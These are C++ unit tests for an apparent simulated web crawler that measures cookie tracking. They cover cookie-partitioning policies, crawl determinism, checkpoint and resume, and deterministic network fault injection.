    EXPECT_EQ(services.document_cookie_read(news_ctx), "");
    services.document_cookie_write(news_ctx, "sess=news1; Path=/");
    EXPECT_EQ(services.document_cookie_read(news_ctx), "sess=news1");
  });
  ASSERT_NE(site.browser().jar_store().find("fpi:news.example"), nullptr);
  EXPECT_EQ(site.browser().jar_store().find("fpi:shop.example")->size(), 1u);
  EXPECT_EQ(site.browser().policy_stats().partitioned_stores, 2u);
}

TEST(PolicyBrowserTest, ChipsStoresPartitionedHeaderCookiesByEmbedder) {
  TestSite site;
  site.browser().set_policy(&policy::engine_for(PolicyKind::kChips));
  site.browser().network().register_host(
      "www.shop.example", [](const net::HttpRequest& req) {
        net::HttpResponse res;
        if (req.destination == net::RequestDestination::kDocument) {
          res.headers.add("Set-Cookie", "plain=1; Path=/");
          res.headers.add("Set-Cookie",
                          "__Host-pc=2; Path=/; Secure; Partitioned");
        }
        return res;
      });
  auto page = site.open();

  // The unpartitioned cookie stays in the classic jar; the Partitioned one
  // lands in the top-level site's partition.
  EXPECT_EQ(site.browser().jar().size(), 1u);
  const auto* partition = site.browser().jar_store().find("chips:shop.example");
  ASSERT_NE(partition, nullptr);
  ASSERT_EQ(partition->size(), 1u);
  EXPECT_TRUE(partition->all().at(0).partitioned);

  // A top-level script read consults both partitions.
  const auto ctx = context_for_url("https://www.shop.example/app.js");
  page->run_as(ctx, [&](script::PageServices& services) {
    EXPECT_EQ(services.document_cookie_read(ctx), "plain=1; __Host-pc=2");
  });
}

TEST(PolicyBrowserTest, ChipsFrameStoresOnlyPartitionedCookies) {
  TestSite site;
  site.browser().set_policy(&policy::engine_for(PolicyKind::kChips));
  auto page = site.open();

  auto& frame = page->create_subframe(
      net::Url::must_parse("https://ads.tracker.com/frame.html"));
  const auto frame_ctx = context_for_url("https://ads.tracker.com/ad.js");
  page->run_in_frame(frame, frame_ctx, [&](script::PageServices& services) {
    // Unpartitioned third-party write: blocked by CHIPS (under the legacy
    // model it would have landed in the ephemeral per-page frame jar).
    services.document_cookie_write(frame_ctx, "uid=3p; Path=/");
    EXPECT_EQ(services.document_cookie_read(frame_ctx), "");
    // The CHIPS-conformant write goes through, keyed by the embedder...
    services.document_cookie_write(frame_ctx,
                                   "pid=ok; Path=/; Secure; Partitioned");
    EXPECT_EQ(services.document_cookie_read(frame_ctx), "pid=ok");
  });

  EXPECT_GE(site.browser().policy_stats().writes_blocked, 1u);
  const auto* partition = site.browser().jar_store().find("chips:shop.example");
  ASSERT_NE(partition, nullptr);
  EXPECT_EQ(partition->size(), 1u);
  EXPECT_EQ(site.browser().jar().size(), 0u);
}

TEST(PolicyBrowserTest, CookieGuardEngineJarIsIdenticalToNone) {
  // PolicyKind::kCookieGuard changes nothing below the API boundary — the
  // defense is the extension above the jar (paper §6).
  const auto run = [](PolicyKind kind) {
    TestSite site;
    site.browser().set_policy(&policy::engine_for(kind));
    auto page = site.open();
    const auto ctx = context_for_url("https://cdn.tracker.com/t.js");
    std::string seen;
    page->run_as(ctx, [&](script::PageServices& services) {
      services.document_cookie_write(ctx, "_t=ghost1; Path=/");
      seen = services.document_cookie_read(ctx);
    });
    return std::pair(seen, site.browser().jar().size());
  };
  EXPECT_EQ(run(PolicyKind::kNone), run(PolicyKind::kCookieGuard));
}

// ------------------------------------------------ crawl-level determinism --

corpus::CorpusParams small_params(int n) {
  corpus::CorpusParams params;
  params.site_count = n;
  return params;
}

std::string crawl_summary(const corpus::Corpus& corpus, PolicyKind kind,
                          int threads, obs::MetricsRegistry* metrics) {
  crawler::Crawler crawler(corpus);
  analysis::Analyzer analyzer(corpus.entities());
  crawler::CrawlOptions options;
  options.threads = threads;
  options.policy = kind;
  options.metrics = metrics;
  std::vector<std::unique_ptr<cookieguard::CookieGuard>> guards;
  if (kind == PolicyKind::kCookieGuard) {
    const int workers = threads < 1 ? 1 : threads;
    for (int w = 0; w < workers; ++w) {
      guards.push_back(std::make_unique<cookieguard::CookieGuard>());
    }
    options.extension_factory =
        [&guards](int worker) -> std::vector<browser::Extension*> {
      return {guards[static_cast<size_t>(worker)].get()};
    };
  }
  crawler.crawl(corpus.size(), options, [&](instrument::VisitLog&& log) {
    analyzer.ingest(log);
  });
  return report::summary_to_json(analyzer, 20).dump(2);
}

TEST(PolicyCrawlTest, EveryPolicyIsByteIdenticalAcrossThreadCounts) {
  corpus::Corpus corpus(small_params(120));
  for (const auto kind :
       {PolicyKind::kNone, PolicyKind::kCookieGuard,
        PolicyKind::kFirstPartyIsolation, PolicyKind::kChips}) {
    const auto one = crawl_summary(corpus, kind, 1, nullptr);
    const auto four = crawl_summary(corpus, kind, 4, nullptr);
    EXPECT_EQ(four, one) << "policy " << policy::to_string(kind);
  }
}

TEST(PolicyCrawlTest, FpiCrawlDivertsStoresIntoPartitions) {
  corpus::Corpus corpus(small_params(60));
  obs::MetricsRegistry metrics;
  crawl_summary(corpus, PolicyKind::kFirstPartyIsolation, 1, &metrics);
  // Under FPI every first-party store is a partitioned store; the counter
  // is how the bake-off matrix sees the diversion through sharded crawls.
  EXPECT_GT(metrics.counter("policy.partitioned_stores"), 0);
}

// ------------------------------------------------------------ golden pin --

std::string read_golden(const std::string& name) {
  std::ifstream in(std::string(CG_SOURCE_ROOT "/tests/golden/") + name);
  EXPECT_TRUE(in.good()) << name;
  std::string text((std::istreambuf_iterator<char>(in)),
                   std::istreambuf_iterator<char>());
  return text;
}

TEST(PolicyCrawlTest, PolicyNoneReproducesCheckedInGoldenSummary) {
  // The acceptance pin for the storage/policy refactor: the default policy
  // is byte-identical to the pre-policy simulator. The goldens were
  // generated by `cgsim crawl --sites 120 --json --health` at the seed
  // commit; default CrawlOptions (faults armed, policy none) must still
  // reproduce them byte for byte.
  corpus::Corpus corpus(small_params(120));
  crawler::Crawler crawler(corpus);
  analysis::Analyzer analyzer(corpus.entities());
  crawler::CrawlOptions options;
  const auto health =
      crawler.crawl(corpus.size(), options, [&](instrument::VisitLog&& log) {
        analyzer.ingest(log);
      });
  EXPECT_EQ(report::summary_to_json(analyzer, 20).dump(2) + "\n",
            read_golden("crawl120_summary.json"));
  EXPECT_EQ(health.to_json().dump(2) + "\n",
            read_golden("crawl120_health.json"));
}

}  // namespace
}  // namespace cg
