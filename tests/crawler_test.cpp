// Tests for the crawl driver: determinism, interaction model, completeness
// filtering, clock staggering.
#include <gtest/gtest.h>

#include "crawler/crawler.h"

namespace cg::crawler {
namespace {

corpus::CorpusParams small_params(int n) {
  corpus::CorpusParams params;
  params.site_count = n;
  return params;
}

TEST(CrawlerTest, VisitIsDeterministic) {
  corpus::Corpus corpus(small_params(20));
  Crawler crawler(corpus);
  CrawlOptions options;
  const auto a = crawler.visit(3, options);
  const auto b = crawler.visit(3, options);
  EXPECT_EQ(a.script_sets.size(), b.script_sets.size());
  EXPECT_EQ(a.requests.size(), b.requests.size());
  EXPECT_EQ(a.landing_timings.load_event, b.landing_timings.load_event);
  for (std::size_t i = 0; i < a.script_sets.size(); ++i) {
    EXPECT_EQ(a.script_sets[i].value, b.script_sets[i].value);
  }
}

TEST(CrawlerTest, VisitOrderDoesNotMatter) {
  corpus::Corpus corpus(small_params(20));
  Crawler crawler(corpus);
  CrawlOptions options;
  const auto early = crawler.visit(7, options);
  crawler.visit(1, options);
  crawler.visit(2, options);
  const auto late = crawler.visit(7, options);
  EXPECT_EQ(early.script_sets.size(), late.script_sets.size());
}

TEST(CrawlerTest, ClicksVisitMultiplePages) {
  corpus::Corpus corpus(small_params(5));
  Crawler crawler(corpus);
  CrawlOptions options;
  const auto log = crawler.visit(0, options);
  // Landing + up to three clicks (§4.2); every blueprint has links.
  EXPECT_EQ(log.pages_visited, 1 + corpus.params().max_clicks);
}

TEST(CrawlerTest, LogLossMatchesConfiguredRate) {
  corpus::Corpus corpus(small_params(400));
  Crawler crawler(corpus);
  CrawlOptions options;
  int complete = 0;
  crawler.crawl(corpus.size(), options, [&](instrument::VisitLog&& log) {
    complete += log.complete() ? 1 : 0;
  });
  const double rate = static_cast<double>(complete) / corpus.size();
  // Paper retains 14,917/20,000 = 74.6%.
  EXPECT_NEAR(rate, 1.0 - corpus.params().log_loss_rate, 0.06);
}

TEST(CrawlerTest, LogLossCanBeDisabled) {
  corpus::Corpus corpus(small_params(30));
  Crawler crawler(corpus);
  CrawlOptions options;
  options.fault_plan.reset();
  crawler.crawl(corpus.size(), options, [&](instrument::VisitLog&& log) {
    EXPECT_TRUE(log.complete());
  });
}

TEST(CrawlerTest, VisitClocksAreStaggered) {
  corpus::Corpus corpus(small_params(3));
  Crawler crawler(corpus);
  CrawlOptions options;
  const auto a = crawler.visit(0, options);
  const auto b = crawler.visit(1, options);
  ASSERT_FALSE(a.script_sets.empty());
  ASSERT_FALSE(b.script_sets.empty());
  // Timestamps embedded in the logs come from different simulated days.
  EXPECT_NE(a.script_sets[0].time / 60000, b.script_sets[0].time / 60000);
}

TEST(CrawlerTest, ExtraExtensionInstalledBeforeRecorder) {
  // An extension that blocks every write must leave the recorder blind to
  // script cookie changes (they never happen).
  struct Blocker final : browser::Extension {
    std::string name() const override { return "blocker"; }
    bool allow_document_cookie_write(browser::Page&,
                                     const script::ExecContext&,
                                     const webplat::StackTrace&,
                                     std::string_view) override {
      return false;
    }
  } blocker;
  corpus::Corpus corpus(small_params(3));
  Crawler crawler(corpus);
  CrawlOptions options;
  options.extra_extensions.push_back(&blocker);
  const auto log = crawler.visit(0, options);
  for (const auto& record : log.script_sets) {
    EXPECT_EQ(record.api, cookies::CookieSource::kCookieStore);
  }
}

// ---- fault injection, retries, checkpoint/resume -------------------------

TEST(CrawlResilienceTest, VisitIsAlwaysCleanEvenWithFaultsEnabled) {
  // visit() is the measurement content of one site; crawl-pipeline weather
  // (the fault plan) only applies through crawl().
  corpus::Corpus corpus(small_params(30));
  Crawler crawler(corpus);
  CrawlOptions options;  // the default fault plan is enabled
  for (int i = 0; i < corpus.size(); ++i) {
    const auto log = crawler.visit(i, options);
    EXPECT_EQ(log.failure, fault::FailureClass::kNone);
    EXPECT_TRUE(log.complete());
    EXPECT_EQ(log.attempts, 1);
  }
}

TEST(CrawlResilienceTest, NegativeCountCrawlsNothing) {
  corpus::Corpus corpus(small_params(5));
  Crawler crawler(corpus);
  CrawlOptions options;
  int sunk = 0, progressed = 0;
  options.on_progress = [&](int, int) { ++progressed; };
  const auto health = crawler.crawl(-7, options, [&](instrument::VisitLog&&) {
    ++sunk;
  });
  EXPECT_EQ(sunk, 0);
  EXPECT_EQ(progressed, 0);
  EXPECT_EQ(health.sites_attempted, 0);
  EXPECT_EQ(health.exclusion_rate(), 0.0);
}

TEST(CrawlResilienceTest, SinkAndProgressArriveInIndexOrder) {
  corpus::Corpus corpus(small_params(12));
  Crawler crawler(corpus);
  CrawlOptions options;
  std::vector<int> ranks;
  std::vector<int> progress;
  options.on_progress = [&](int done, int total) {
    EXPECT_EQ(total, 12);
    progress.push_back(done);
  };
  crawler.crawl(corpus.size(), options, [&](instrument::VisitLog&& log) {
    ranks.push_back(log.rank);
  });
  ASSERT_EQ(ranks.size(), 12u);
  ASSERT_EQ(progress.size(), 12u);
  for (int i = 0; i < 12; ++i) {
    EXPECT_EQ(ranks[i], i + 1);  // ranks are 1-based, indices 0-based
    EXPECT_EQ(progress[i], i + 1);
  }
}

TEST(CrawlResilienceTest, ExclusionEmergesNearThePaperRate) {
  // Acceptance: the default plan over 2000 sites completes without
  // throwing, excludes 20-30%, reports a per-class breakdown, and retries
  // recover >= 10% of initially-failed sites.
  corpus::Corpus corpus(small_params(2000));
  Crawler crawler(corpus);
  CrawlOptions options;
  int excluded_logs = 0;
  const auto health =
      crawler.crawl(corpus.size(), options, [&](instrument::VisitLog&& log) {
        if (!log.complete()) ++excluded_logs;
      });

  EXPECT_EQ(health.sites_attempted, 2000);
  EXPECT_EQ(health.sites_excluded, excluded_logs);
  EXPECT_EQ(health.sites_retained + health.sites_excluded, 2000);
  EXPECT_GE(health.exclusion_rate(), 0.20);
  EXPECT_LE(health.exclusion_rate(), 0.30);
  EXPECT_EQ(static_cast<int>(health.retained_ranks.size()),
            health.sites_retained);

  // Every fatal class shows up in the exclusion breakdown.
  for (const auto cls :
       {fault::FailureClass::kDnsFailure, fault::FailureClass::kConnectTimeout,
        fault::FailureClass::kDeadlineExceeded,
        fault::FailureClass::kTruncatedHeaders,
        fault::FailureClass::kExtensionCrash}) {
    EXPECT_GT(health.exclusions[static_cast<int>(cls)], 0)
        << fault::failure_class_name(cls);
  }
  // Degraded (script-fetch-failure) sites are retained, not excluded.
  EXPECT_GT(health.sites_degraded, 0);
  EXPECT_EQ(health.exclusions[static_cast<int>(
                fault::FailureClass::kSubresourceFailure)],
            0);

  // Retries do real work: recoveries and the >= 10% acceptance bar.
  EXPECT_GT(health.total_retries, 0);
  EXPECT_GE(health.recovery_rate(), 0.10);
}

TEST(CrawlResilienceTest, CrawlHealthIsByteIdenticalAcrossRuns) {
  corpus::Corpus corpus(small_params(300));
  Crawler crawler(corpus);
  CrawlOptions options;
  const auto a = crawler.crawl(corpus.size(), options,
                               [](instrument::VisitLog&&) {});
  const auto b = crawler.crawl(corpus.size(), options,
                               [](instrument::VisitLog&&) {});
  EXPECT_EQ(a.to_json().dump(), b.to_json().dump());
  EXPECT_EQ(a.retained_ranks, b.retained_ranks);
}

TEST(CrawlResilienceTest, RetriedSitesReportTheirAttemptCount) {
  corpus::Corpus corpus(small_params(300));
  Crawler crawler(corpus);
  CrawlOptions options;
  bool saw_recovered = false;
  crawler.crawl(corpus.size(), options, [&](instrument::VisitLog&& log) {
    if (log.complete() && log.attempts > 1) saw_recovered = true;
    EXPECT_LE(log.attempts, options.max_retries + 1);
  });
  EXPECT_TRUE(saw_recovered);
}

TEST(CrawlResilienceTest, CheckpointRoundTripsThroughJson) {
  CrawlCheckpoint checkpoint;
  checkpoint.next_index = 50;
  checkpoint.target_count = 120;
  checkpoint.corpus_seed = 0xC00C1EULL;
  checkpoint.fault_seed = 0xFA177ULL;
  checkpoint.health.sites_attempted = 50;
  checkpoint.health.sites_retained = 38;
  checkpoint.health.sites_excluded = 12;
  checkpoint.health.exclusions[static_cast<int>(
      fault::FailureClass::kDnsFailure)] = 5;
  checkpoint.health.retained_ranks = {1, 2, 4, 7};

  const auto parsed =
      CrawlCheckpoint::from_json_string(checkpoint.to_json_string());
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(parsed->next_index, 50);
  EXPECT_EQ(parsed->target_count, 120);
  EXPECT_EQ(parsed->corpus_seed, 0xC00C1EULL);
  EXPECT_EQ(parsed->fault_seed, 0xFA177ULL);
  EXPECT_EQ(parsed->health.to_json().dump(),
            checkpoint.health.to_json().dump());
  // A checkpoint from a non-packing crawl carries no archive segment.
  EXPECT_EQ(parsed->archive_sites, -1);
  EXPECT_EQ(parsed->archive_bytes, 0);

  // A packing crawl's checkpoint references its archive segment.
  checkpoint.archive_sites = 50;
  checkpoint.archive_bytes = 123456;
  const auto packed =
      CrawlCheckpoint::from_json_string(checkpoint.to_json_string());
  ASSERT_TRUE(packed.has_value());
  EXPECT_EQ(packed->archive_sites, 50);
  EXPECT_EQ(packed->archive_bytes, 123456);

  EXPECT_FALSE(CrawlCheckpoint::from_json_string("not json").has_value());
  EXPECT_FALSE(CrawlCheckpoint::from_json_string("{}").has_value());
  EXPECT_FALSE(CrawlCheckpoint::from_json_string(
                   R"({"next_index": 9, "target_count": 4, "health": {}})")
                   .has_value());
}

TEST(CrawlResilienceTest, ResumeFromCheckpointMatchesUninterruptedRun) {
  corpus::Corpus corpus(small_params(120));
  Crawler crawler(corpus);

  CrawlOptions options;
  options.checkpoint_interval = 25;
  std::vector<std::string> serialized;
  options.on_checkpoint = [&](const CrawlCheckpoint& checkpoint) {
    serialized.push_back(checkpoint.to_json_string());
  };
  std::vector<int> full_ranks;
  const auto full =
      crawler.crawl(corpus.size(), options, [&](instrument::VisitLog&& log) {
        full_ranks.push_back(log.rank);
      });
  ASSERT_EQ(serialized.size(), 4u);  // checkpoints at 25, 50, 75, 100

  // Kill the crawl at site 50 and resume from the persisted checkpoint.
  const auto checkpoint = CrawlCheckpoint::from_json_string(serialized[1]);
  ASSERT_TRUE(checkpoint.has_value());
  EXPECT_EQ(checkpoint->next_index, 50);
  EXPECT_EQ(checkpoint->corpus_seed, corpus.params().seed);

  std::vector<int> resumed_ranks;
  const auto resumed =
      crawler.resume(*checkpoint, options, [&](instrument::VisitLog&& log) {
        resumed_ranks.push_back(log.rank);
      });

  EXPECT_EQ(resumed.to_json().dump(), full.to_json().dump());
  EXPECT_EQ(resumed.retained_ranks, full.retained_ranks);
  // The resumed sink saw exactly the uninterrupted run's tail.
  ASSERT_EQ(resumed_ranks.size(), full_ranks.size() - 50);
  for (std::size_t i = 0; i < resumed_ranks.size(); ++i) {
    EXPECT_EQ(resumed_ranks[i], full_ranks[i + 50]);
  }
}

TEST(CrawlResilienceTest, ExplicitFaultPlanReplacesTheDefault) {
  corpus::Corpus corpus(small_params(60));
  Crawler crawler(corpus);

  CrawlOptions options;
  fault::FaultPlanParams params;
  params.site_fault_rate = 1.0;   // every site faults...
  params.permanent_share = 1.0;   // ...permanently
  params.subresource_weight = 0;  // only fatal classes
  options.fault_plan = params;

  const auto health = crawler.crawl(corpus.size(), options,
                                    [](instrument::VisitLog&&) {});
  EXPECT_EQ(health.sites_excluded, 60);
  EXPECT_EQ(health.sites_retained, 0);
  // Retries were spent on every site even though none could recover.
  EXPECT_EQ(health.total_attempts, 60 * (options.max_retries + 1));
}

TEST(CrawlResilienceTest, ZeroRetriesStillTerminates) {
  corpus::Corpus corpus(small_params(80));
  Crawler crawler(corpus);
  CrawlOptions options;
  options.max_retries = 0;
  const auto health = crawler.crawl(corpus.size(), options,
                                    [](instrument::VisitLog&&) {});
  EXPECT_EQ(health.total_attempts, 80);
  EXPECT_EQ(health.total_retries, 0);
  EXPECT_EQ(health.sites_recovered, 0);
}

}  // namespace
}  // namespace cg::crawler
