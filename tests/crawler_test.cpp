// Tests for the crawl driver: determinism, interaction model, completeness
// filtering, clock staggering.
#include <gtest/gtest.h>

#include "crawler/crawler.h"

namespace cg::crawler {
namespace {

corpus::CorpusParams small_params(int n) {
  corpus::CorpusParams params;
  params.site_count = n;
  return params;
}

TEST(CrawlerTest, VisitIsDeterministic) {
  corpus::Corpus corpus(small_params(20));
  Crawler crawler(corpus);
  CrawlOptions options;
  const auto a = crawler.visit(3, options);
  const auto b = crawler.visit(3, options);
  EXPECT_EQ(a.script_sets.size(), b.script_sets.size());
  EXPECT_EQ(a.requests.size(), b.requests.size());
  EXPECT_EQ(a.landing_timings.load_event, b.landing_timings.load_event);
  for (std::size_t i = 0; i < a.script_sets.size(); ++i) {
    EXPECT_EQ(a.script_sets[i].value, b.script_sets[i].value);
  }
}

TEST(CrawlerTest, VisitOrderDoesNotMatter) {
  corpus::Corpus corpus(small_params(20));
  Crawler crawler(corpus);
  CrawlOptions options;
  const auto early = crawler.visit(7, options);
  crawler.visit(1, options);
  crawler.visit(2, options);
  const auto late = crawler.visit(7, options);
  EXPECT_EQ(early.script_sets.size(), late.script_sets.size());
}

TEST(CrawlerTest, ClicksVisitMultiplePages) {
  corpus::Corpus corpus(small_params(5));
  Crawler crawler(corpus);
  CrawlOptions options;
  const auto log = crawler.visit(0, options);
  // Landing + up to three clicks (§4.2); every blueprint has links.
  EXPECT_EQ(log.pages_visited, 1 + corpus.params().max_clicks);
}

TEST(CrawlerTest, LogLossMatchesConfiguredRate) {
  corpus::Corpus corpus(small_params(400));
  Crawler crawler(corpus);
  CrawlOptions options;
  int complete = 0;
  crawler.crawl(corpus.size(), options, [&](instrument::VisitLog&& log) {
    complete += log.complete() ? 1 : 0;
  });
  const double rate = static_cast<double>(complete) / corpus.size();
  // Paper retains 14,917/20,000 = 74.6%.
  EXPECT_NEAR(rate, 1.0 - corpus.params().log_loss_rate, 0.06);
}

TEST(CrawlerTest, LogLossCanBeDisabled) {
  corpus::Corpus corpus(small_params(30));
  Crawler crawler(corpus);
  CrawlOptions options;
  options.simulate_log_loss = false;
  crawler.crawl(corpus.size(), options, [&](instrument::VisitLog&& log) {
    EXPECT_TRUE(log.complete());
  });
}

TEST(CrawlerTest, VisitClocksAreStaggered) {
  corpus::Corpus corpus(small_params(3));
  Crawler crawler(corpus);
  CrawlOptions options;
  const auto a = crawler.visit(0, options);
  const auto b = crawler.visit(1, options);
  ASSERT_FALSE(a.script_sets.empty());
  ASSERT_FALSE(b.script_sets.empty());
  // Timestamps embedded in the logs come from different simulated days.
  EXPECT_NE(a.script_sets[0].time / 60000, b.script_sets[0].time / 60000);
}

TEST(CrawlerTest, ExtraExtensionInstalledBeforeRecorder) {
  // An extension that blocks every write must leave the recorder blind to
  // script cookie changes (they never happen).
  struct Blocker final : browser::Extension {
    std::string name() const override { return "blocker"; }
    bool allow_document_cookie_write(browser::Page&,
                                     const script::ExecContext&,
                                     const webplat::StackTrace&,
                                     std::string_view) override {
      return false;
    }
  } blocker;
  corpus::Corpus corpus(small_params(3));
  Crawler crawler(corpus);
  CrawlOptions options;
  options.extra_extensions.push_back(&blocker);
  const auto log = crawler.visit(0, options);
  for (const auto& record : log.script_sets) {
    EXPECT_EQ(record.api, cookies::CookieSource::kCookieStore);
  }
}

}  // namespace
}  // namespace cg::crawler
