// Tests for the deterministic fault-injection layer: plan determinism,
// class distribution, transient clearing, and the per-attempt behaviours
// the crawler wires into the network stack.
#include <gtest/gtest.h>

#include <array>
#include <cstdint>

#include "fault/fault.h"
#include "net/dns.h"

namespace cg::fault {
namespace {

constexpr TimeMillis kDeadline = 180'000;

TEST(FaultPlanTest, DefaultConstructedPlanIsDisabled) {
  FaultPlan plan;
  EXPECT_FALSE(plan.enabled());
  for (int rank = 1; rank <= 500; ++rank) {
    EXPECT_FALSE(plan.decide(rank, 0, kDeadline).active());
  }
}

TEST(FaultPlanTest, DecisionsAreDeterministic) {
  FaultPlan a((FaultPlanParams()));
  FaultPlan b((FaultPlanParams()));
  for (int rank = 1; rank <= 200; ++rank) {
    for (int attempt = 0; attempt < 4; ++attempt) {
      const auto da = a.decide(rank, attempt, kDeadline);
      const auto db = b.decide(rank, attempt, kDeadline);
      EXPECT_EQ(da.cls, db.cls);
      EXPECT_EQ(da.stall_ms, db.stall_ms);
      EXPECT_EQ(da.crash_after_page, db.crash_after_page);
      EXPECT_EQ(da.crash_loses_cookie_channel, db.crash_loses_cookie_channel);
    }
  }
}

TEST(FaultPlanTest, DifferentSeedsScheduleDifferently) {
  FaultPlanParams other;
  other.seed ^= 0xDEADBEEFULL;
  FaultPlan a((FaultPlanParams()));
  FaultPlan b(other);
  int differing = 0;
  for (int rank = 1; rank <= 500; ++rank) {
    if (a.decide(rank, 0, kDeadline).cls != b.decide(rank, 0, kDeadline).cls) {
      ++differing;
    }
  }
  EXPECT_GT(differing, 50);
}

TEST(FaultPlanTest, FaultRateAndClassSpreadMatchParams) {
  FaultPlan plan((FaultPlanParams()));
  std::array<int, kFailureClassCount> by_class{};
  int faulted = 0;
  const int n = 4000;
  for (int rank = 1; rank <= n; ++rank) {
    const auto decision = plan.decide(rank, 0, kDeadline);
    if (decision.active()) {
      ++faulted;
      ++by_class[static_cast<int>(decision.cls)];
    }
  }
  const double rate = static_cast<double>(faulted) / n;
  EXPECT_NEAR(rate, plan.params().site_fault_rate, 0.03);
  // Every scheduled class occurs; none dominates.
  for (const FailureClass cls :
       {FailureClass::kDnsFailure, FailureClass::kConnectTimeout,
        FailureClass::kDeadlineExceeded, FailureClass::kTruncatedHeaders,
        FailureClass::kExtensionCrash, FailureClass::kSubresourceFailure}) {
    EXPECT_GT(by_class[static_cast<int>(cls)], 0)
        << failure_class_name(cls);
    EXPECT_LT(by_class[static_cast<int>(cls)], faulted / 2)
        << failure_class_name(cls);
  }
}

TEST(FaultPlanTest, TransientFaultsClearPermanentOnesPersist) {
  FaultPlan plan((FaultPlanParams()));
  int transient = 0, permanent = 0;
  for (int rank = 1; rank <= 2000; ++rank) {
    const auto first = plan.decide(rank, 0, kDeadline);
    if (!first.active()) continue;
    const auto late = plan.decide(rank, 10, kDeadline);
    if (late.active()) {
      // A persisting fault keeps the identical class on every attempt.
      EXPECT_EQ(late.cls, first.cls);
      ++permanent;
    } else {
      // Once cleared, it stays cleared.
      EXPECT_FALSE(plan.decide(rank, 11, kDeadline).active());
      ++transient;
    }
  }
  EXPECT_GT(transient, 0);
  EXPECT_GT(permanent, transient);  // permanent_share = 0.85
}

TEST(FaultPlanTest, StallAlwaysExceedsTheDeadlineItWasDrawnAgainst) {
  FaultPlan plan((FaultPlanParams()));
  for (int rank = 1; rank <= 2000; ++rank) {
    const auto decision = plan.decide(rank, 0, kDeadline);
    if (decision.cls == FailureClass::kDeadlineExceeded) {
      EXPECT_GT(decision.stall_ms, kDeadline);
    }
  }
}

TEST(FaultTaxonomyTest, FatalityAndNames) {
  EXPECT_FALSE(is_fatal(FailureClass::kNone));
  EXPECT_FALSE(is_fatal(FailureClass::kSubresourceFailure));
  EXPECT_TRUE(is_fatal(FailureClass::kDnsFailure));
  EXPECT_TRUE(is_fatal(FailureClass::kConnectTimeout));
  EXPECT_TRUE(is_fatal(FailureClass::kDeadlineExceeded));
  EXPECT_TRUE(is_fatal(FailureClass::kTruncatedHeaders));
  EXPECT_TRUE(is_fatal(FailureClass::kExtensionCrash));
  EXPECT_TRUE(is_fatal(FailureClass::kIncompleteLogs));
  EXPECT_EQ(failure_class_name(FailureClass::kDnsFailure), "dns_failure");
  EXPECT_EQ(failure_class_name(FailureClass::kIncompleteLogs),
            "incomplete_logs");
}

net::HttpRequest make_request(const std::string& url,
                              net::RequestDestination destination) {
  net::HttpRequest request;
  request.url = net::Url::must_parse(url);
  request.destination = destination;
  return request;
}

TEST(VisitFaultsTest, ConnectTimeoutHitsOnlyTheSiteDocument) {
  FaultDecision decision;
  decision.cls = FailureClass::kConnectTimeout;
  decision.connect_timeout_ms = 30'000;
  VisitFaults faults(decision, "www.site1.com", 42);

  const auto doc = faults.on_request(make_request(
      "https://www.site1.com/", net::RequestDestination::kDocument));
  EXPECT_EQ(doc.error, net::NetError::kConnectionTimeout);
  EXPECT_EQ(doc.latency_ms, 30'000);

  const auto third_party = faults.on_request(make_request(
      "https://cdn.vendor.net/", net::RequestDestination::kDocument));
  EXPECT_EQ(third_party.error, net::NetError::kOk);

  const auto script = faults.on_request(make_request(
      "https://www.site1.com/app.js", net::RequestDestination::kScript));
  EXPECT_EQ(script.error, net::NetError::kOk);
}

TEST(VisitFaultsTest, StallReturnsOkWithLatency) {
  FaultDecision decision;
  decision.cls = FailureClass::kDeadlineExceeded;
  decision.stall_ms = 250'000;
  VisitFaults faults(decision, "www.site1.com", 42);
  const auto verdict = faults.on_request(make_request(
      "https://www.site1.com/", net::RequestDestination::kDocument));
  EXPECT_EQ(verdict.error, net::NetError::kOk);
  EXPECT_EQ(verdict.latency_ms, 250'000);
}

TEST(VisitFaultsTest, SubresourceFailuresFollowTheConfiguredRate) {
  FaultDecision decision;
  decision.cls = FailureClass::kSubresourceFailure;
  decision.subresource_fail_rate = 1.0;
  VisitFaults always(decision, "www.site1.com", 42);
  for (int i = 0; i < 20; ++i) {
    EXPECT_EQ(always
                  .on_request(make_request("https://v.net/a.js",
                                           net::RequestDestination::kScript))
                  .error,
              net::NetError::kConnectionReset);
  }
  // Documents are never touched by the subresource fault.
  EXPECT_EQ(always
                .on_request(make_request("https://www.site1.com/",
                                         net::RequestDestination::kDocument))
                .error,
            net::NetError::kOk);

  decision.subresource_fail_rate = 0.0;
  VisitFaults never(decision, "www.site1.com", 42);
  EXPECT_EQ(never
                .on_request(make_request("https://v.net/a.js",
                                         net::RequestDestination::kScript))
                .error,
            net::NetError::kOk);
}

TEST(VisitFaultsTest, TruncationCutsSetCookieHeadersInHalf) {
  FaultDecision decision;
  decision.cls = FailureClass::kTruncatedHeaders;
  VisitFaults faults(decision, "www.site1.com", 42);

  const std::string header = "sid=abcdef12345678; Max-Age=3600";
  net::HttpResponse response;
  response.headers.add("Set-Cookie", header);
  response.headers.add("Content-Type", "text/html");
  const auto request =
      make_request("https://www.site1.com/", net::RequestDestination::kDocument);
  faults.on_response(request, response);

  const auto cookies = response.set_cookie_headers();
  ASSERT_EQ(cookies.size(), 1u);
  EXPECT_EQ(cookies[0], header.substr(0, header.size() / 2));
  EXPECT_TRUE(response.headers.has("Content-Type"));
}

TEST(VisitFaultsTest, DnsFaultInjectsIntoResolver) {
  FaultDecision decision;
  decision.cls = FailureClass::kDnsFailure;
  VisitFaults faults(decision, "www.site1.com", 42);
  EXPECT_TRUE(faults.dns_fails());

  net::DnsResolver dns;
  dns.inject_failure("www.site1.com", net::DnsStatus::kNxDomain);
  EXPECT_FALSE(dns.resolve("www.site1.com").ok());
  dns.clear_failures();
  EXPECT_TRUE(dns.resolve("www.site1.com").ok());
}

// ---- IoFaultPlan (write-side storage faults) -----------------------------

TEST(IoFaultPlanTest, DefaultConstructedPlanIsDisabled) {
  IoFaultPlan plan;
  EXPECT_FALSE(plan.enabled());
  for (std::uint64_t op = 0; op < 500; ++op) {
    EXPECT_FALSE(plan.decide(op).active());
  }
  EXPECT_FALSE(plan.decide_crash(7).active());
}

TEST(IoFaultPlanTest, DecisionsAreDeterministicAndSeedSensitive) {
  IoFaultPlan a((IoFaultPlanParams()));
  IoFaultPlan b((IoFaultPlanParams()));
  IoFaultPlanParams other_params;
  other_params.seed = 0xD1FFULL;
  IoFaultPlan other(other_params);

  bool any_differs = false;
  for (std::uint64_t op = 0; op < 2000; ++op) {
    const auto da = a.decide(op);
    const auto db = b.decide(op);
    EXPECT_EQ(da.cls, db.cls);
    EXPECT_EQ(da.cut, db.cut);
